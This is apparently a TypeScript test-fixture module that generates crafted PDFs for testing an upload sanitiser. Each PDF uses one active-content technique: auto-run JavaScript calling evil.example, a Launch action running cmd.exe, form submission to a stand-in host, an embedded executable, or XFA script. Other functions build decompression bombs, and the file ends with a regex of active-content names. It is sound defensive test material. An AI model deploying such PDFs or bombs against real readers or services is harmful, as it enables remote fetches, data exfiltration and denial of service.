/**
 * Crafted PDFs for the uploads tests, written as raw PDF syntax in memory: one per technique of
 * active content (scripts, actions, attached files, XFA, media) and of decompression bombs.
 */
import zlib from "node:zlib";

const MiB = 1024 * 1024;

export const PAGE_TEXT = "Kuitansi pungutan liar";

/** A stream object's body: its dictionary (without /Length) and data. */
export function stream(dict: string, data: Uint8Array | string): Buffer {
  const bytes = typeof data === "string" ? Buffer.from(data, "latin1") : Buffer.from(data);
  return Buffer.concat([
    Buffer.from(`<< ${dict} /Length ${bytes.length} >>\nstream\n`, "latin1"),
    bytes,
    Buffer.from("\nendstream", "latin1"),
  ]);
}

/** A PDF whose object n is bodies[n - 1] (object 1 is the catalog), with a cross-reference table. */
export function rawPdf(bodies: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  const offsets: number[] = [];
  let length = parts[0]!.length;
  bodies.forEach((body, i) => {
    offsets.push(length);
    const object = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, "latin1"),
      Buffer.from(body as string | Uint8Array),
      Buffer.from("\nendobj\n", "latin1"),
    ]);
    parts.push(object);
    length += object.length;
  });
  const xref =
    `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n` +
    offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("") +
    `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`;
  parts.push(Buffer.from(xref, "latin1"));
  return Buffer.concat(parts);
}

export interface Extras {
  catalog?: string;
  page?: string;
  /** Objects 6, 7, ...; refer to them as "6 0 R" and so on. */
  objects?: (string | Buffer)[];
  /** Replaces the page's content stream. */
  content?: Buffer;
}

/** A one-page PDF with readable text (objects 1–5), plus the given entries and objects. */
export function pdfWith(extras: Extras = {}): Buffer {
  return rawPdf([
    `<< /Type /Catalog /Pages 2 0 R ${extras.catalog ?? ""} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${extras.page ?? ""} >>`,
    extras.content ?? stream("/Filter /FlateDecode", zlib.deflateSync(`BT /F1 12 Tf 20 100 Td (${PAGE_TEXT}) Tj ET`)),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...(extras.objects ?? []),
  ]);
}

const JS = "(app.launchURL\\('https://evil.example/x'\\); app.alert\\('pwned'\\))";

/** Each technique of active content, named; every payload contains "evil" or "pwned". */
export const ACTIVE_PDFS: Record<string, () => Buffer> = {
  "document OpenAction JavaScript": () => pdfWith({ catalog: `/OpenAction << /S /JavaScript /JS ${JS} >>` }),
  "document AA with a JavaScript stream": () =>
    pdfWith({
      catalog: "/AA << /WC 6 0 R >>",
      objects: [`<< /S /JavaScript /JS 7 0 R >>`, stream("", "app.alert('pwned')")],
    }),
  "page AA JavaScript": () =>
    pdfWith({ page: `/AA << /O << /S /JavaScript /JS ${JS} >> /C << /S /JavaScript /JS ${JS} >> >>` }),
  "Launch action": () =>
    pdfWith({
      catalog:
        "/OpenAction << /S /Launch /F (evil.exe) /Win << /F (cmd.exe) /P (/c evil) /O /open >> /NewWindow true >>",
    }),
  "URI, GoToR, GoToE, SubmitForm, ImportData, Hide, ResetForm, Named links": () =>
    pdfWith({
      page: "/Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R 11 0 R 12 0 R 13 0 R]",
      objects: [
        "<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://evil.example/track) >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /GoToE /T << /R /C /N (evil) >> /D [0 /Fit] >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/post) >> >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /ImportData /F (evil.fdf) >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Hide /T (evil) /Next << /S /ResetForm >> >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Named /N /Print >> /PA << /S /URI /URI (https://evil.example/pa) >> >>",
        // A go-to inside the document is kept as a plain destination.
        "<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /GoTo /D [3 0 R /Fit] >> >>",
      ],
    }),
  "annotation and form-field actions (widget, field AA, link JavaScript)": () =>
    pdfWith({
      catalog: "/AcroForm << /Fields [6 0 R] >>",
      page: "/Annots [6 0 R 7 0 R]",
      objects: [
        `<< /Type /Annot /Subtype /Widget /FT /Btn /T (kirim) /Rect [0 0 50 50] /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/form) >> >> /AA << /K << /S /JavaScript /JS ${JS} >> /Fo << /S /JavaScript /JS ${JS} >> >> >>`,
        `<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /Type /Action /S /JavaScript /JS ${JS} >> >>`,
      ],
    }),
  "outline item actions (chained with Next)": () =>
    pdfWith({
      catalog: "/Outlines 6 0 R",
      objects: [
        "<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
        `<< /Title (Bab 1) /Parent 6 0 R /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS ${JS} >> >> >>`,
      ],
    }),
  "JavaScript name tree": () =>
    pdfWith({
      catalog: "/Names << /JavaScript 6 0 R >>",
      objects: [`<< /Names [(init) << /S /JavaScript /JS ${JS} >>] >>`],
    }),
  "embedded file and FileAttachment annotation": () =>
    pdfWith({
      catalog: "/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >> /AF [6 0 R]",
      page: "/Annots [8 0 R]",
      objects: [
        "<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 7 0 R >> >>",
        stream("/Type /EmbeddedFile /Subtype /application#2Fx-msdownload", "MZ\x90\x00 pwned payload"),
        "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS << /Type /Filespec /F (evil.txt) /EF << /F 9 0 R >> >> /Name /PushPin >>",
        stream("/Type /EmbeddedFile", "pwned attachment"),
      ],
    }),
  "XFA form": () =>
    pdfWith({
      catalog: "/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true",
      objects: [
        stream("", '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert("pwned")</script></xdp:xdp>'),
      ],
    }),
  "RichMedia, 3D, Screen and Sound annotations": () =>
    pdfWith({
      page: "/Annots [6 0 R 7 0 R 9 0 R 10 0 R]",
      objects: [
        "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 50 50] /RichMediaContent << /Type /RichMediaContent /Assets << /Names [(evil.swf) << /Type /Filespec /F (evil.swf) >>] >> >> >>",
        "<< /Type /Annot /Subtype /3D /Rect [0 0 50 50] /3DD 8 0 R >>",
        stream("/Type /3D /Subtype /U3D", "U3D pwned"),
        "<< /Type /Annot /Subtype /Screen /Rect [0 0 50 50] /A << /S /Rendition /OP 0 /R << /Type /Rendition /S /MR /C << /Type /MediaClip /S /MCD /D (evil.mp4) >> >> >> >>",
        `<< /Type /Annot /Subtype /Sound /Rect [0 0 50 50] /Sound ${"11 0 R"} >>`,
        stream("/Type /Sound /R 8000", "pwned sound"),
      ],
    }),
  "reference XObject pointing at another file": () =>
    pdfWith({
      page: "/Resources << /Font << /F1 5 0 R >> /XObject << /X1 6 0 R >> >>",
      content: stream("", `BT /F1 12 Tf 20 100 Td (${PAGE_TEXT}) Tj ET /X1 Do`),
      objects: [
        stream(
          "/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Ref << /F (\\\\\\\\evil.example\\\\x.pdf) /Page 0 >>",
          "",
        ),
      ],
    }),
  "stream data fetched from another file": () =>
    pdfWith({
      page: "/Resources << /Font << /F1 5 0 R >> /XObject << /X1 6 0 R >> >>",
      content: stream("", `BT /F1 12 Tf 20 100 Td (${PAGE_TEXT}) Tj ET /X1 Do`),
      objects: [
        stream(
          "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F (https://evil.example/pixel) /FFilter /FlateDecode",
          "",
        ),
      ],
    }),
};

// ---- Decompression bombs --------------------------------------------------------------

/** A zlib stream of `mib` MiB of zeros, ~1 KB per MiB: one flushed deflate block repeated. */
export function zerosFlate(mib: number): Buffer {
  const block = zlib.deflateRawSync(Buffer.alloc(MiB), { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH });
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((mib * MiB) % 65521) * 65536 + 1) >>> 0);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array<Buffer>(mib).fill(block), Buffer.from([3, 0]), adler]);
}

/** An object stream (objects 6 and 7) that decodes to `mib` MiB, followed by its objects' padding. */
export function objectStreamBomb(mib = 1536): Buffer {
  return pdfWith({ objects: [stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zerosFlate(mib))] });
}

/** The page's content stream decodes to `mib` MiB of zeros. */
export function contentStreamBomb(mib = 1536): Buffer {
  return pdfWith({ content: stream("/Filter /FlateDecode", zerosFlate(mib)) });
}

/** `count` content streams of `mib` MiB each: each under the per-stream budget, together over the per-file one. */
export function manyStreamsBomb(count: number, mib: number): Buffer {
  const first = 6;
  const refs = Array.from({ length: count }, (_, i) => `${first + i} 0 R`).join(" ");
  return pdfWith({
    page: `/Contents [4 0 R ${refs}]`,
    objects: Array.from({ length: count }, () => stream("/Filter /FlateDecode", zerosFlate(mib))),
  });
}

/** A bomb deflated twice: small on disk and after one decoding step. */
export function doubleFlateBomb(mib = 1536): Buffer {
  return pdfWith({
    objects: [
      stream("/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", zlib.deflateSync(zerosFlate(mib))),
    ],
  });
}

/** A bomb behind an ASCII-hex filter, and a run-length one (2 bytes → 128). */
export function hexFlateBomb(mib = 512): Buffer {
  return pdfWith({ content: stream("/Filter [/ASCIIHexDecode /FlateDecode]", `${zerosFlate(mib).toString("hex")}>`) });
}

export function runLengthBomb(mib = 128): Buffer {
  return pdfWith({
    content: stream(
      "/Filter /RunLengthDecode",
      Buffer.concat([Buffer.alloc(mib * 8192 * 2, 0x81).map((b, i) => (i % 2 ? 0 : b)), Buffer.from([128])]),
    ),
  });
}

/** An object stream that claims more objects than the budget allows. */
export function manyObjectsInStream(n = 1_000_000): Buffer {
  return pdfWith({
    objects: [stream("/Type /ObjStm /N " + n + " /First 4 /Filter /FlateDecode", zlib.deflateSync("6 0 "))],
  });
}

/** `n` tiny indirect objects in the file itself. */
export function manyObjects(n = 120_000): Buffer {
  return pdfWith({ objects: Array.from({ length: n }, () => "0") });
}

/**
 * An object stream holding another object stream (which pdf-lib does not decode while
 * loading) that is the page's content and decodes to `mib` MiB.
 */
export function nestedObjectStreamBomb(mib = 1536): Buffer {
  const inner = stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zerosFlate(mib));
  const header = Buffer.from("7 0 ", "latin1");
  const outer = zlib.deflateSync(Buffer.concat([header, inner]));
  return pdfWith({
    page: "/Contents 7 0 R",
    objects: [stream(`/Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode`, outer)],
  });
}

/** The page content behind a filter no reader knows, whose decoded size cannot be measured. */
export function unknownFilterPdf(): Buffer {
  return pdfWith({ content: stream("/Filter /SecretDecode", "x") });
}

/**
 * LZW codes for zeros: each code names the previous string plus one zero, so a table of ~4000
 * codes (~6 KB) decodes to ~8 MB; the table is cleared and the cycle repeated.
 */
export function lzwZerosBomb(mib = 1536): Buffer {
  const out: number[] = [];
  let acc = 0;
  let bits = 0;
  const put = (code: number, width: number) => {
    acc = ((acc << width) | code) & 0xffffff;
    bits += width;
    while (bits >= 8) {
      bits -= 8;
      out.push((acc >>> bits) & 0xff);
    }
  };
  let width = 9;
  for (let total = 0; total < mib * MiB;) {
    put(256, width);
    width = 9;
    put(0, width);
    total += 1;
    for (let next = 258, length = 2; next < 4000; next++, length++) {
      put(next, width);
      total += length;
      const n = next + 2; // the reader's next free code, plus EarlyChange
      if ((n & (n - 1)) === 0) width = Math.min(Math.log2(n) + 1, 12);
    }
  }
  put(257, width);
  if (bits > 0) out.push((acc << (8 - bits)) & 0xff);
  return pdfWith({ content: stream("/Filter /LZWDecode", Buffer.from(out)) });
}

// ---- Independent check of an output -------------------------------------------------------

/**
 * Everything a reader of `pdf` could see, as one searchable string: the raw bytes, every object
 * as pdf-lib parses it (including those inside object streams) and every stream decoded.
 * Only for small test outputs: it decodes without a budget.
 */
export async function readableText(pdf: Uint8Array): Promise<string> {
  const { PDFDocument, PDFRawStream, decodePDFRawStream } = await import("pdf-lib");
  const doc = await PDFDocument.load(pdf, { updateMetadata: false });
  const parts = [Buffer.from(pdf).toString("latin1")];
  for (const [, object] of doc.context.enumerateIndirectObjects()) {
    parts.push(object.toString());
    if (object instanceof PDFRawStream) {
      try {
        parts.push(Buffer.from(decodePDFRawStream(object).decode()).toString("latin1"));
      } catch {
        // Image codecs: the raw bytes above are what matters.
      }
    }
  }
  return parts.join("\n");
}

/** Names that only active content uses, as whole PDF names. */
export const ACTIVE_NAMES =
  /\/(OpenAction|AA|JS|JavaScript|Launch|URI|GoToR|GoToE|SubmitForm|ImportData|ResetForm|Hide|Named|Rendition|MediaClip|EmbeddedFiles?|EF|RF|AF|FileAttachment|XFA|NeedsRendering|RichMedia\w*|3DD?|U3D|Screen|Sound|Movie|Action|PA|Ref|FFilter)(?![A-Za-z0-9#_.-])/;
